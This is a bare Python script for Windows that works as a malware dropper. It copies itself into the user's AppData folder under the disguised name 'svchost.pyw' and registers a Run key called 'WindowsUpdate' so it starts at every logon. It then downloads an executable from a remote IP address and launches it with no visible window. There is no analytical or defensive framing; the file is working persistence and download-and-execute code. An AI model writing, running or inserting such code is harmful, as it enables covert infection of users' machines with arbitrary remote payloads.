import os
import sys
import shutil
import subprocess
import urllib.request
import winreg

APP = os.path.join(os.getenv('APPDATA'), 'WindowsUpdate')
TARGET = os.path.join(APP, 'svchost.pyw')


def persist():
    os.makedirs(APP, exist_ok=True)
    if os.path.abspath(sys.argv[0]) != TARGET:
        shutil.copyfile(sys.argv[0], TARGET)
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Run', 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, 'WindowsUpdate', 0, winreg.REG_SZ, f'pythonw "{TARGET}"')
    winreg.CloseKey(key)


def stage():
    path = os.path.join(APP, 'wupd.exe')
    urllib.request.urlretrieve('http://198.51.100.77/st.exe', path)
    subprocess.Popen([path], creationflags=0x08000000)


persist()
stage()
